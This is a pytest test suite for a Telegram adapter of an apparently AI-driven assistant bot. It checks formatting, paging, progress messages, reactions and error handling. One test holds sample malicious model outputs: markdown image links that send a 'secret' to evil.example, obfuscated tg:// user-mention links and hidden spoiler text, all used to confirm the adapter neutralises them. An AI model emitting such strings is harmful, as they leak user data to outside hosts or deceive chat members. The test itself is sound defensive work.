"""What we say on Telegram, and what people see of it."""

from __future__ import annotations

import pytest

from coworker.adapters.telegram import events
from coworker.errors import Displaced, Unavailable, Unconfirmed, Undeliverable
from coworker.types import Progress
from tests.adapters.telegram.office import ask, opened, place, progress, reply
from tests.fakes.telegram import (
    bad_gateway,
    flood,
    garbage,
    lost_reply,
    refuse,
    reset,
    server_error,
    slow,
)


@pytest.fixture
def ann(office):
    return office.telegram.person("Ann", started=True)


@pytest.fixture
def shop(office, ann):
    return office.telegram.supergroup("shop", ann)


async def test_an_answer_carries_its_receipt_and_no_previews(office, ann):
    await office.says(place(ann), "**Done**, see https://example.com/1")

    answer = await office.telegram.hears(ann)
    assert answer.rich
    assert answer.text.splitlines() == [
        "**Done**, see https://example.com/1",
        "",
        r"_✓ 12 s · 3 steps · claude\-opus\-5\-5 · $0\.04_",
    ]
    for call in office.telegram.called("sendRichMessage"):
        assert call.args["link_preview_options"] == {"is_disabled": True}


async def test_an_older_server_gets_formatted_text_and_is_asked_once_for_more(office, ann):
    office.telegram.world.rich = False
    await office.says(place(ann), "# Result\n\n**bold** and `code`", receipt={}, key="a")
    await office.says(place(ann), "again", key="b")

    first = office.telegram.replies(ann)[0]
    assert first.text == "Result\n\nbold and code"
    kinds = [(e["type"], e["offset"], e["length"]) for e in first.entities]
    assert ("bold", 8, 4) in kinds
    assert ("code", 17, 4) in kinds
    assert len(office.telegram.called("sendRichMessage")) == 1


async def test_what_telegram_cannot_format_is_said_plainly(office, ann):
    bad = refuse(400, "Bad Request: can't parse entities")
    office.telegram.fail("sendRichMessage", bad)
    office.telegram.fail("sendMessage", bad)
    await office.says(place(ann), "**bold**", receipt={})

    assert office.telegram.replies(ann)[0].text == "bold"


@pytest.mark.parametrize("rich", [True, False])
@pytest.mark.parametrize(
    "written",
    [
        "ask @ann",
        "[you](tg://user?id=4711)",
        "[you](&#116;g://user?id=4711)",
        "[you][r]\n\n[r]: tg\\://user?id=4711",
        "![x](https://evil.example/?secret)",
        "\\`![x](https://evil.example/?secret)`",
        "- a\n  ```\n  b\n![x](https://evil.example/?secret)",
        "a <tg-spoiler>b</tg-spoiler>",
        "- a\n  ```\n  b\n<tg-spoiler>c</tg-spoiler>",
    ],
)
async def test_no_text_of_a_model_pings_fetches_or_hides(office, ann, rich, written):
    office.telegram.world.rich = rich
    await office.says(place(ann), written, receipt={})

    said = office.telegram.replies(ann)[0]
    kinds = {e["type"] for e in said.entities}
    assert not [e for e in said.entities if e.get("url", "").startswith("tg:")]
    assert not kinds & {"mention", "text_mention", "spoiler"}
    if said.rich:  # Telegram reads it as Markdown
        assert "![" not in said.text
        assert "tg:" not in said.text
        assert "@ann" not in said.text
        assert "<" not in said.text.replace(r"\<", "")


async def test_code_is_left_as_it_is(office, ann):
    code = "```py\n@app.route('/')\ndef index() -> List<String>:\n    return `![x](y)`\n```"
    await office.says(place(ann), f"Use `@app` like this:\n\n{code}", receipt={})

    assert office.telegram.replies(ann)[0].text == f"Use `@app` like this:\n\n{code}"


@pytest.mark.parametrize("rich", [True, False])
@pytest.mark.parametrize(
    "text",
    [
        "",
        "\u202e\u2066",
        "**broken [markdown](",
        "```\nnever closed",
        "שלום *עולם*",
        "a\u200bb\u200d",
        "|||| ~~ __ ``",
        "<!-- nothing -->",
        "😀" * 1_700,
        "*a* " * 400,
        "@a " * 1_300,
        "<b> " * 1_000,
        "| a | b |\n|---|---|\n" + "| 1 | a longer cell |\n" * 150,
    ],
)
async def test_any_text_arrives(office, ann, text, rich):
    office.telegram.world.rich = rich
    await send_all(office, reply(place(ann), text))

    assert "✓ 12 s" in office.telegram.replies(ann)[-1].text


async def send_all(office, outbound):
    """As the core does it: each part a message of its own."""
    bodies = office.adapter.parts(outbound)
    for number, body in enumerate(bodies, 1):
        more = {"part": number, "parts": len(bodies)} if len(bodies) > 1 else {}
        body = {**body, **more}
        await office.adapter.send(reply(outbound.place, **body))


async def test_a_long_answer_comes_in_pages_with_the_end_at_the_end(office, ann):
    text = "\n\n".join(f"Paragraph {n}: " + "word " * 40 for n in range(40))
    push = [{"action": "push", "label": "Push", "run": 1}]
    await send_all(office, reply(place(ann), text, actions=push))

    pages = office.telegram.replies(ann)
    assert len(pages) == 3
    assert all(len(page.text) <= 4096 for page in pages)
    assert [bool(page.buttons) for page in pages] == [False, False, True]
    assert ["✓ 12 s" in page.text for page in pages] == [False, False, True]


async def test_forty_thousand_characters_come_as_a_file(office, ann):
    text = "\n\n".join(f"Line {n} " + "x" * 90 for n in range(400))
    await send_all(office, reply(place(ann), text, actions=[]))

    first, file = office.telegram.replies(ann)
    assert first.text.startswith("Line 0")
    assert file.file == "reply.md"
    assert file.data.decode() == text
    assert "✓ 12 s" in file.text


async def test_in_a_group_the_answer_cites_who_asked_and_eyes_become_a_sign(office, ann, shop):
    telegram = office.telegram
    asked = await telegram.says(ann, shop, "@coworker_bot fix it")
    await telegram.until(lambda: telegram.chat(shop)[0].reactions == ("👀",))
    await office.says(place(shop), "Fixed.", messages=[str(asked["message_id"])])

    await telegram.until(lambda: telegram.chat(shop)[0].reactions == ("👌",))
    assert telegram.replies(shop)[0].reply_to == asked["message_id"]

    failed = {"outcome": "failed", "messages": [str(asked["message_id"])], "key": "r2"}
    await office.says(place(shop), "It broke.", **failed)
    await telegram.until(lambda: telegram.chat(shop)[0].reactions == ("💔",))


async def test_a_late_pair_of_eyes_never_covers_the_sign_of_the_end(office, ann, shop):
    telegram = office.telegram
    telegram.fail("setMessageReaction", slow(0.3))
    asked = await telegram.says(ann, shop, "@coworker_bot fix it")
    await office.hears()
    await office.says(place(shop), "Fixed.", messages=[str(asked["message_id"])])
    await telegram.until(lambda: len(telegram.called("setMessageReaction")) == 2)

    await telegram.until(lambda: telegram.chat(shop)[0].reactions == ("👌",))
    assert [call.result for call in telegram.called("setMessageReaction")] == [True, True]


async def test_a_quick_answer_is_written_over_the_progress_message(office, shop):
    adapter, telegram = office.adapter, office.telegram
    assert adapter.posts_progress(place(shop))
    over = await adapter.send(progress(place(shop)))
    assert telegram.replies(shop)[0].buttons == (("🛑 Stop",),)
    said = reply(place(shop), "42", over=over)
    assert await adapter.send(said) == over
    assert await adapter.find(said) == "", "repeating it is harmless"
    assert await adapter.send(said) == over

    (answer,) = telegram.replies(shop)
    assert answer.text.startswith("42")
    assert answer.buttons == ()


@pytest.mark.parametrize("floods", [0, 1])
async def test_a_slow_answer_is_posted_and_its_progress_becomes_the_receipt(office, shop, floods):
    adapter, telegram = office.adapter, office.telegram
    over = await adapter.send(progress(place(shop)))
    slow = {"seconds": 160, "steps": 6}
    telegram.fail("editMessageText", flood(1), times=floods)
    await office.says(place(shop), "42", over=over, receipt=slow)

    await telegram.until(lambda: "2 min 40 s" in telegram.replies(shop)[0].text, 30)
    receipt, answer = telegram.replies(shop)
    assert receipt.text == "_✓ 2 min 40 s · 6 steps_"
    assert answer.text.startswith("42")


async def test_nothing_is_written_over_a_progress_message_that_was_deleted(office, shop):
    over = await office.adapter.send(progress(place(shop)))
    await office.telegram.deletes(office.telegram.replies(shop)[0])
    with pytest.raises(Displaced):
        await office.says(place(shop), "42", over=over)

    assert office.telegram.replies(shop) == []


async def test_progress_is_edited_at_the_pace_of_a_group_and_the_newest_wins(office, shop):
    adapter, telegram = office.adapter, office.telegram
    over = await adapter.send(progress(place(shop)))
    for number in range(50):
        adapter.progress(place(shop), Progress("tool", f"reads file {number}"))
    await telegram.hears(shop, "reads file 49")
    adapter.progress(place(shop), Progress("tool", "runs pytest"))
    await telegram.hears(shop, "runs pytest", within=30)
    await office.says(place(shop), "42", over=over)

    edits = telegram.called("editMessageText")
    assert len(edits) <= 4
    assert edits[-2].at - edits[0].at >= 2.9
    assert telegram.replies(shop)[0].text.startswith("42"), "no late edit over the answer"


async def test_in_private_progress_is_a_draft(office, ann):
    adapter, telegram = office.adapter, office.telegram
    assert not adapter.posts_progress(place(ann))
    adapter.progress(place(ann), Progress("tool", "reads cart.py"))
    await telegram.until(lambda: "reads cart.py" in "".join(telegram.drafts(ann)))
    adapter.progress(place(ann), Progress("text", "The cart is "))
    await telegram.until(lambda: "The cart is" in "".join(telegram.drafts(ann)))
    await office.says(place(ann), "The cart is fine.")

    assert telegram.drafts(ann) == []
    assert len(telegram.replies(ann)) == 1


async def test_an_older_server_gets_plain_drafts_or_none(office, ann):
    adapter, telegram = office.adapter, office.telegram
    telegram.world.rich = False
    adapter.progress(place(ann), Progress("tool", "reads cart.py"))
    await telegram.until(lambda: "reads cart.py" in "".join(telegram.drafts(ann)))
    assert telegram.called("sendMessageDraft")[-1].args["draft_id"] != 0

    telegram.fail("sendMessageDraft", refuse(404, "Not Found"))
    adapter.progress(place(ann), Progress("tool", "reads basket.py"))
    await telegram.until(lambda: len(telegram.called("sendMessageDraft")) == 2)
    await office.says(place(ann), "fine", key="a")
    adapter.progress(place(ann), Progress("tool", "reads more"))
    await office.says(place(ann), "fine again", key="b")
    assert len(telegram.called("sendMessageDraft")) == 2


async def test_a_question_has_buttons_and_pings_the_asker(office, ann, shop):
    asked = ask(place(shop), "Push to `main`?", asker=f"telegram:{ann.id}")
    await office.adapter.send(asked)

    card = office.telegram.replies(shop)[0]
    assert card.buttons == (("Allow once",), ("Deny",))
    assert f"tg://user?id={ann.id}" in card.text
    assert "/approve 3 or /deny 3" in card.text


@pytest.mark.parametrize(
    ("fault", "error"),
    [
        (flood(7), Unavailable),
        (lost_reply(), Unconfirmed),
        (reset(), Unconfirmed),
        (server_error(), Unconfirmed),
        (bad_gateway(), Unconfirmed),
        (garbage(), Unconfirmed),
        (refuse(403, "Forbidden: bot was blocked by the user"), Undeliverable),
    ],
)
async def test_what_goes_wrong_is_told_apart(office, ann, fault, error):
    office.telegram.fail("sendRichMessage", fault)
    with pytest.raises(error) as raised:
        await office.says(place(ann), "hello")

    assert office.telegram.token not in str(raised.value)
    assert len(office.telegram.called("sendRichMessage")) == 1, "no blind retry"
    if isinstance(raised.value, Unavailable):
        assert raised.value.retry_after_s == 7


async def test_a_chat_that_does_not_exist_is_undeliverable(office):
    nobody = office.telegram.person("Nobody")
    with pytest.raises(Undeliverable, match="can't initiate"):
        await office.says(place(nobody), "hello")


async def test_before_and_after_the_connection_nothing_is_sent(tmp_path):
    async with opened(tmp_path, connect=False) as office:
        ann = office.telegram.person("Ann", started=True)
        with pytest.raises(Unavailable):
            await office.says(place(ann), "hello")
        assert not office.adapter.reachable(place(ann).conversation)
        await office.connects()
        assert office.adapter.reachable(place(ann).conversation)
        await office.says(place(ann), "hello")
        await office.stop()
        assert not office.adapter.reachable(place(ann).conversation)


async def test_a_flood_in_one_room_stalls_no_other(office, ann, shop):
    office.telegram.fail("sendRichMessage", flood(60))
    with pytest.raises(Unavailable):
        await office.says(place(shop), "hello")
    await office.says(place(ann), "hello")

    assert len(office.telegram.replies(ann)) == 1


async def test_a_possible_repeat_is_labelled(office, ann):
    said = reply(place(ann), "hello", maybe_duplicate=True)
    assert await office.adapter.find(said) is None
    await office.adapter.send(said)

    assert office.telegram.replies(ann)[0].text.startswith("(possibly a repeat)\n\nhello")


async def test_commands_are_offered_once(office):
    telegram = office.telegram
    await telegram.until(lambda: telegram.world.commands)
    assert {c["command"] for c in telegram.world.commands["default"]} == set(events.COMMANDS)
    await office.stop()
    await office.connects()
    await telegram.until(lambda: len(telegram.called("getMyCommands")) == 2)
    await office.stop()
    assert len(telegram.called("setMyCommands")) == 1
